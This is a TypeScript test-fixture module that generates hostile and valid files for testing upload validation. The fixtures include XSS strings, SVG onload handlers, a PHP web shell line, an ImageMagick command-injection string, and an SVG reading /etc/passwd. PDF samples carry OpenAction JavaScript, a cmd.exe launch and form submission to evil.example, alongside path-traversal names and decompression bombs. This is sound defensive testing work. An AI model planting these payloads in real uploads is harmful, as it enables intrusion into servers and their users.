import { deflateRawSync, deflateSync, crc32 } from "node:zlib";
import sharp from "sharp";

/** Malicious files and valid counterparts, generated here for the tests of every upload endpoint. */

export const SCRIPT = "<script>alert(document.domain)</script>";

export async function goodImage(
  format: "jpeg" | "png" | "gif" | "webp",
  size: { width: number; height: number } = { width: 64, height: 48 },
): Promise<Buffer> {
  return sharp({ create: { ...size, channels: 3, background: { r: 220, g: 60, b: 30 } } })
    .toFormat(format)
    .toBuffer();
}

/** A photo as from a phone: with GPS, camera, comment and a rotated orientation. */
export async function phonePhoto(): Promise<Buffer> {
  return sharp({ create: { width: 80, height: 40, channels: 3, background: "#2244aa" } })
    .withExif({
      IFD0: { Make: "CanaryCam", Copyright: "canary-owner", ImageDescription: SCRIPT, Orientation: "6" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "1/1 17/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "103/1 51/1 0/1" },
    })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
}

export function svg(content = SCRIPT): Buffer {
  return Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${content}<rect width="10" height="10"/></svg>`,
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([head, body, check]);
}

const PNG_START = Buffer.from("\x89PNG\r\n\x1A\n", "latin1");

/** A PNG whose header claims the given size. */
export function pngClaiming(width: number, height: number, pixels: Buffer = deflateSync(Buffer.alloc(1000))): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([PNG_START, chunk("IHDR", header), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))]);
}

/** A valid PNG with text that a careless server could run or show. */
export async function pngWithText(text: string): Promise<Buffer> {
  const png = await goodImage("png");
  const end = png.length - 12;
  return Buffer.concat([
    png.subarray(0, end),
    chunk("tEXt", Buffer.from(`Comment\0${text}`, "latin1")),
    png.subarray(end),
  ]);
}

/** The smallest valid PDF, with anything added to its catalogue or as objects. */
export function pdf(options: { catalog?: string; objects?: string; trailer?: string; info?: string } = {}): Buffer {
  const body = [
    "%PDF-1.7",
    `1 0 obj\n<</Type/Catalog/Pages 2 0 R${options.catalog ?? ""}>>\nendobj`,
    "2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj",
    "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>\nendobj",
    `4 0 obj\n<</Producer(test)/Keywords(${options.info ?? ""})>>\nendobj`,
    ...(options.objects === undefined ? [] : [options.objects]),
  ].join("\n");
  return Buffer.from(
    `${body}\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 5/Root 1 0 R/Info 4 0 R${options.trailer ?? ""}>>\nstartxref\n${body.length + 1}\n%%EOF\n`,
    "latin1",
  );
}

/** Objects hidden in a compressed object stream. */
export function packedPdfObjects(content: string, options: { filter?: string; raw?: boolean } = {}): string {
  const packed = (options.raw ? Buffer.from(content) : deflateSync(content)).toString("latin1");
  return `9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter${options.filter ?? "/FlateDecode"}/Length ${packed.length}>>\nstream\n${packed}\nendstream\nendobj`;
}

/** A zip with one file, like office documents and archives. */
export function zip(name: string, content: string): Buffer {
  const data = deflateRawSync(content);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), data]);
}

export interface HostileFile {
  what: string;
  /** The claimed file name. */
  name: string;
  /** The claimed type. */
  type: string;
  bytes: Buffer;
}

/** Every image upload must reject these. */
export async function hostileImages(): Promise<HostileFile[]> {
  const [jpeg, png, gif, webp] = await Promise.all([
    goodImage("jpeg"),
    goodImage("png"),
    goodImage("gif"),
    goodImage("webp"),
  ]);
  const file = (what: string, name: string, type: string, bytes: Buffer | string): HostileFile => ({
    what,
    name,
    type,
    bytes: Buffer.from(bytes as string, "latin1"),
  });
  return [
    file("an SVG with a script", "logo.svg", "image/svg+xml", svg()),
    file("an SVG that says it is a PNG", "logo.png", "image/png", svg()),
    file(
      "an SVG that loads a file of the server",
      "logo.svg",
      "image/svg+xml",
      svg('<image href="file:///etc/passwd"/>'),
    ),
    file(
      "an SVG with an entity bomb",
      "logo.svg",
      "image/svg+xml",
      `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg("&b;").toString()}`,
    ),
    file("an SVG after a byte order mark", "logo.svg", "image/svg+xml", `\xEF\xBB\xBF${svg().toString()}`),
    file("HTML named .png", "a.png", "image/png", `<!doctype html>${SCRIPT}`),
    file("a script named .jpg", "a.jpg", "image/jpeg", "alert(1)"),
    file("PHP with a double ending", "photo.php.jpg", "image/jpeg", "<?php system($_GET['c']);"),
    file("a GIF that is a script", "a.gif", "image/gif", "GIF89a=1;alert(document.domain)//"),
    file("a GIF start before HTML", "a.gif", "image/gif", `GIF89a${SCRIPT}`),
    file("a JPEG start before HTML", "a.jpg", "image/jpeg", `\xFF\xD8\xFF\xE0${SCRIPT}`),
    file("a PNG start before HTML", "a.png", "image/png", `\x89PNG\r\n\x1A\n${SCRIPT}`),
    file("a WebP start before HTML", "a.webp", "image/webp", `RIFF\x20\0\0\0WEBPVP8 ${SCRIPT}`),
    file("a PNG of 256 megapixels", "a.png", "image/png", pngClaiming(16_000, 16_000)),
    file("a PNG one row over 25 megapixels", "a.png", "image/png", pngClaiming(5000, 5001)),
    file("a PNG of 2^31 by 2^31", "a.png", "image/png", pngClaiming(0x7fffffff, 0x7fffffff)),
    file("a PNG without a pixel", "a.png", "image/png", pngClaiming(0, 10)),
    file("a PNG with missing rows", "a.png", "image/png", pngClaiming(400, 400)),
    file(
      "a PNG whose pixels are no deflate stream",
      "a.png",
      "image/png",
      pngClaiming(10, 10, Buffer.from("not deflated")),
    ),
    file("a JPEG cut in the middle", "a.jpg", "image/jpeg", (await noise("jpeg")).subarray(0, 3000)),
    file("a PNG cut in the middle", "a.png", "image/png", (await noise("png")).subarray(0, 3000)),
    file("a WebP cut in the middle", "a.webp", "image/webp", (await noise("webp")).subarray(0, 3000)),
    file("a GIF cut in the middle", "a.gif", "image/gif", (await noise("gif")).subarray(0, 3000)),
    file("a JPEG cut after its start", "a.jpg", "image/jpeg", jpeg.subarray(0, 3)),
    file("a PNG cut after its start", "a.png", "image/png", png.subarray(0, 8)),
    file("one byte", "a.png", "image/png", "\x89"),
    file("nothing", "a.png", "image/png", ""),
    file(
      "5 MB and one byte",
      "a.jpg",
      "image/jpeg",
      Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length)]),
    ),
    file("only NULs", "a.png", "image/png", Buffer.alloc(2000)),
    file("a good PNG behind one space", "a.png", "image/png", Buffer.concat([Buffer.from(" "), png])),
    file(
      "a good JPEG behind an ID3 tag",
      "a.jpg",
      "image/jpeg",
      Buffer.concat([Buffer.from("ID3\x03\0\0\0\0\0\0", "latin1"), jpeg]),
    ),
    file("a good GIF behind HTML", "a.gif", "image/gif", Buffer.concat([Buffer.from(SCRIPT), gif])),
    file("a data URI in place of a file", "a.png", "image/png", `data:image/png;base64,${png.toString("base64")}`),
    file("a data URI that lies", "a.png", "image/png", `data:image/png;base64,${svg().toString("base64")}`),
    file("a TIFF", "a.tiff", "image/tiff", await sharp(png).tiff().toBuffer()),
    file("an AVIF", "a.avif", "image/avif", await sharp(png).avif({ effort: 0 }).toBuffer()),
    file("a PDF named .png", "a.png", "image/png", pdf()),
    file("a ZIP named .png", "a.png", "image/png", zip("evil.html", SCRIPT)),
    file("an ELF binary", "a.png", "image/png", "\x7FELF\x02\x01\x01\0\0\0"),
    file("a Windows binary", "a.jpg", "image/jpeg", "MZ\x90\0\x03\0\0\0"),
    file("PostScript", "a.jpg", "image/jpeg", "%!PS-Adobe-3.0\n(x) run"),
    file(
      "an ImageMagick script",
      "a.jpg",
      "image/jpeg",
      "push graphic-context\nimage over 0,0 0,0 'https://127.0.0.1/x.php?\"|id\"'",
    ),
    file("a BMP", "a.bmp", "image/bmp", "BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),
    file("an icon", "favicon.ico", "image/x-icon", "\0\0\x01\0\x01\0\x10\x10\0\0"),
    file(
      "a RIFF that is sound",
      "a.webp",
      "image/webp",
      Buffer.concat([Buffer.from("RIFF\x24\0\0\0WAVEfmt ", "latin1"), webp]),
    ),
  ];
}

/** These decode as images; only the pixels may be kept. */
export async function disguisedImages(): Promise<HostileFile[]> {
  const [jpeg, png, gif, webp] = await Promise.all([
    goodImage("jpeg"),
    goodImage("png"),
    goodImage("gif"),
    goodImage("webp"),
  ]);
  const file = (what: string, name: string, bytes: Buffer): HostileFile => ({ what, name, type: "image/png", bytes });
  return [
    file("a script after the end of a JPEG", "a.jpg", Buffer.concat([jpeg, Buffer.from(SCRIPT)])),
    file("a ZIP after the end of a PNG", "a.png", Buffer.concat([png, zip("evil.html", SCRIPT)])),
    file("a script after the end of a GIF", "a.gif", Buffer.concat([gif, Buffer.from(SCRIPT)])),
    file("a script after the end of a WebP", "a.webp", Buffer.concat([webp, Buffer.from(SCRIPT)])),
    file("a script in a text chunk of a PNG", "a.png", await pngWithText(SCRIPT)),
    file("PHP in a text chunk of a PNG", "a.php", await pngWithText("<?php system($_GET['c']); ?>")),
    file("a script in the EXIF of a photo", "a.jpg", await phonePhoto()),
    file("a good image named as a page", "index.html", png),
    file("a good image with a NUL in its name", "a.png\0.html", png),
    file("a good image that climbs folders", "../../../etc/passwd", png),
    file("a good image with 300 letters for a name", `${"a".repeat(300)}.png`, png),
    file("a JPEG that says it is a PNG", "a.png", jpeg),
  ];
}

/** Every document upload must reject these. */
export async function hostileDocuments(): Promise<HostileFile[]> {
  const file = (what: string, bytes: Buffer | string, name = "certificate.pdf"): HostileFile => ({
    what,
    name,
    type: "application/pdf",
    bytes: Buffer.from(bytes as string, "latin1"),
  });
  const js = "9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj";
  return [
    file("a PDF that runs JavaScript when opened", pdf({ catalog: "/OpenAction<</S/JavaScript/JS(app.alert(1))>>" })),
    file("a PDF with JavaScript in an object", pdf({ catalog: "/OpenAction 9 0 R", objects: js })),
    file("a PDF with JavaScript spelled in hex", pdf({ catalog: "/OpenAction<</S/J#61v#61Script/JS(app.alert(1))>>" })),
    file(
      "a PDF with JavaScript after a comment",
      pdf({ catalog: "/OpenAction<</S%hidden\n/JavaScript/JS(app.alert(1))>>" }),
    ),
    file("a PDF with a tree of scripts", pdf({ catalog: "/Names<</Dests 5 0 R/JavaScript 6 0 R>>" })),
    file(
      "a PDF with JavaScript in a packed object",
      pdf({ objects: packedPdfObjects("8 0 <</S/JavaScript/JS(app.alert(1))>>") }),
    ),
    file(
      "a PDF with JavaScript in an unreadable packed object",
      pdf({ objects: packedPdfObjects("not deflated", { raw: true }) }),
    ),
    file(
      "a PDF with doubly packed objects",
      pdf({ objects: packedPdfObjects("8 0 <<>>", { filter: "[/ASCIIHexDecode/FlateDecode]" }) }),
    ),
    file("a PDF with a bomb for a packed object", pdf({ objects: packedPdfObjects(" ".repeat(60 * 1024 * 1024)) })),
    file("a PDF that starts a program", pdf({ catalog: "/OpenAction<</S/Launch/F(cmd.exe)>>" })),
    file(
      "a PDF with a file inside",
      pdf({ catalog: "/Names<</EmbeddedFiles 9 0 R>>", objects: "9 0 obj\n<</Type/EmbeddedFile>>\nendobj" }),
    ),
    file("a PDF with a form of scripts", pdf({ catalog: "/AcroForm<</SigFlags 3/XFA 9 0 R>>" })),
    file("a PDF that sends a form", pdf({ catalog: "/OpenAction<</S/SubmitForm/F(https://evil.example)>>" })),
    file("a PDF with rich media", pdf({ objects: "9 0 obj\n<</Type/Annot/Subtype/RichMedia>>\nendobj" })),
    file("a PDF with a password", pdf({ trailer: "/Encrypt 9 0 R" })),
    file("a PDF without an end", pdf().subarray(0, 250)),
    file("a PDF with a page of HTML behind it", Buffer.concat([pdf(), Buffer.from(SCRIPT)])),
    file("a PDF with a ZIP behind it", Buffer.concat([pdf(), zip("evil.html", SCRIPT)])),
    file("a PDF behind HTML", Buffer.concat([Buffer.from(SCRIPT), pdf()])),
    file("a PDF with an unknown version", Buffer.concat([Buffer.from("%PDF-9.9\n"), pdf().subarray(9)])),
    file("only the start of a PDF", "%PDF-1.7\n"),
    file("HTML named .pdf", `<!doctype html>${SCRIPT}`),
    file("an SVG named .pdf", svg()),
    file("a ZIP named .pdf", zip("word/document.xml", "x")),
    file("an old Word document", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
    file("a GIF, which no document is", await goodImage("gif"), "scan.gif"),
    file("a PNG of 256 megapixels as a scan", pngClaiming(16_000, 16_000), "scan.png"),
    file("nothing", ""),
    file("5 MB and one byte", Buffer.concat([pdf().subarray(0, 100), Buffer.alloc(5 * 1024 * 1024 + 1 - 100, 32)])),
  ];
}

/** An image that barely compresses, so that truncating it loses pixels. */
export async function noise(format: "jpeg" | "png" | "gif" | "webp"): Promise<Buffer> {
  const side = 128;
  const pixels = Buffer.from(
    Array.from({ length: side * side * 3 }, (_value, at) => (at * 7919 + ((at * at) % 251) * 31) % 256),
  );
  return sharp(pixels, { raw: { width: side, height: side, channels: 3 } })
    .toFormat(format)
    .toBuffer();
}
